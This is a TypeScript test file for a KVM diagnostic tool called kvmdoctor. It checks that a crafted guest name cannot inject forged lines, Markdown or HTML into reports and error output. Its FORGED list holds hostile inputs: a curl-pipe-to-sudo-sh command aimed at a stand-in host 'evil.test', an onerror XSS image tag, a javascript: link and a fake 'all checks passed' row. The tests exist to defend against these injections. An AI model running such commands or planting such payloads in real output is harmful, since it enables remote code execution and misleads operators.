/**
 * Forgery by newline: a name read from the host (here a domain's <name>, as a crafted snapshot or
 * bundle carries it) must never start a line of its own in any text kvmdoctor prints or writes:
 * no Markdown heading, fence, image, link or HTML in `--format md` or the bundle's report.md, no
 * row in the text report or the ip and trace tables, no line on stderr. Bidi and zero-width
 * characters are shown as escapes.
 */
import {readFile, readdir, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {marked} from 'marked'
import * as tar from 'tar'
import {describe, expect, it} from 'vitest'
import {bundleReports} from '../../reports/bundle-files.js'
import {createBundle} from '../../src/core/bundle.js'
import {errorLine, visibleControls} from '../../src/core/output.js'
import {ReplayRunner} from '../../src/core/snapshot.js'
import {cli, rewrittenRecording, scratch} from './helpers.js'

/** What the planted name tries to add: a closed fence, a heading over a command, an image, a link, HTML, a verdict row. */
const FORGED = ['# Run this instead', 'curl -s http://evil.test/p | sudo sh', '![x](http://evil.test/x.png)', '<img src=x onerror=alert(1)>', '[click](javascript:alert(1))', 'OK  vm: all 48 checks passed']
/** A name that closes the fence it is quoted in first. */
const NAME = ['kdlab-web01', '```', ...FORGED, 'web\u202eexe.sh\u200b'].join('\n')
const xmlText = (s: string) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')

/** The domain-link-down recording with its guest's XML renamed: the name reaches titles, evidence and fix lines. */
const plantedSnapshot = (name = NAME) => rewrittenRecording('domif-link-down', 'qemu-kdlab-web01.xml.txt', (xml) => xml.replace('<name>kdlab-web01</name>', `<name>${xmlText(name)}</name>`))

/** No line of the output is one of the forged lines, or starts with one (after list or quote markers). */
function expectNoForgedLine(text: string, what: string) {
  for (const line of text.split('\n')) {
    const bare = line.replace(/^[\s>*\-+│├└─]*(\d+\.\s*)?/, '')
    for (const forged of FORGED) expect(bare.startsWith(forged), `${what}: ${JSON.stringify(line)}`).toBe(false)
  }
  expect(text, what).not.toMatch(/[\u202e\u200b]/)
}

/** Markdown rendered as a viewer renders it: nothing of the name became markup. */
async function expectInertMarkdown(md: string, what: string) {
  expectNoForgedLine(md, what)
  const html = await marked.parse(md)
  // The report links nothing and shows no image of its own: any link or image came from the name.
  expect(html, what).not.toMatch(/<img|<a |<h[1-6][^>]*>\s*Run this instead/i)
  // Every fence the report opened is closed by its own fence: the name ended none.
  const fences = md.split('\n').filter((l) => /^\s*```/.test(l))
  expect(fences.length % 2, what).toBe(0)
}

describe('a planted name starts no line', () => {
  it('--format md: no heading, fence, image, link or HTML from the name', async () => {
    const r = await cli(['diagnose', '--from', await plantedSnapshot(), '--format', 'md'])
    expect(r.stdout).toContain('kdlab-web01\\n')
    await expectInertMarkdown(r.stdout, 'md')
    expect(r.stdout).toContain('\\u202e')
  })

  it("the bundle's report.md and report.html", async () => {
    const runner = await ReplayRunner.open(await plantedSnapshot())
    const dir = await scratch()
    const made = await createBundle({runner, options: runner.manifest.options!, version: 'test', output: join(dir, 'b.tar.gz'), redact: false, reports: bundleReports})
    await tar.x({file: made.path, cwd: dir})
    const top = (await readdir(dir)).find((f) => f.startsWith('kvmdoctor-bundle-'))!
    const md = await readFile(join(dir, top, 'report.md'), 'utf8')
    expect(md).toContain('kdlab-web01\\n')
    await expectInertMarkdown(md, 'report.md')
    const html = await readFile(join(dir, top, 'report.html'), 'utf8')
    expect(html).not.toMatch(/<img src=x|href="javascript:/)
  })

  it('text report, ip and trace tables: no forged row', async () => {
    const snap = await plantedSnapshot()
    const text = await cli(['diagnose', '--from', snap])
    expect(text.stdout).toContain('kdlab-web01\\n')
    expectNoForgedLine(text.stdout, 'text')
    const ip = await cli(['ip', '--from', snap])
    expect(ip.stdout, ip.stderr).toContain('kdlab-web01\\n')
    expectNoForgedLine(ip.stdout, 'ip')
    // trace takes GUEST[/IFACE]: a name without a slash.
    const unslashed = NAME.replaceAll('/', '')
    const trace = await cli(['trace', unslashed, '--from', await plantedSnapshot(unslashed)])
    expect(trace.stdout).toContain('kdlab-web01\\n')
    expectNoForgedLine(trace.stdout, 'trace')
    const topology = await cli(['topology', '--from', snap])
    expectNoForgedLine(topology.stdout, 'topology')
  })

  it('stderr: an error text from a crafted manifest stays one line', async () => {
    const snap = await plantedSnapshot()
    const manifest = JSON.parse(await readFile(join(snap, 'manifest.json'), 'utf8'))
    const list = manifest.captures.find((c: {argv?: string[]}) => c.argv?.includes('net-list'))
    Object.assign(list, {exitCode: 1, error: 'virsh net-list: exit 1\nkvmdoctor: all 48 checks passed\nOK  vm: all 48 checks passed', errorCode: 'exit-status'})
    await writeFile(join(snap, 'manifest.json'), JSON.stringify(manifest))
    const r = await cli(['diagnose', '--from', snap])
    expect(r.exitCode).toBe(4)
    expect(r.stderr).toMatch(/virsh net-list: exit 1\\nkvmdoctor: all 48 checks passed/)
    expect(r.stderr.split('\n').filter((l) => /^(kvmdoctor: all 48|OK )/.test(l))).toEqual([])
    expectNoForgedLine(r.stdout, 'text')
  })

  it('every invisible or line-breaking character is shown as an escape', () => {
    const shown = visibleControls('a\nb\rc\u2028d\u2029e\u202ef\u2066g\u200bh\u200di\u00adj\ufeffk\u{e0041}l\tm')
    expect(shown).toBe('a\\nb\\rc\\u2028d\\u2029e\\u202ef\\u2066g\\u200bh\\u200di\\x{ad}j\\ufeffk\\u{e0041}l\tm'.replace('\\x{ad}', '\\xad'))
    expect(errorLine('kvmdoctor: x\nkvmdoctor: all 48 checks passed').split('\n')).toHaveLength(1)
  })
})
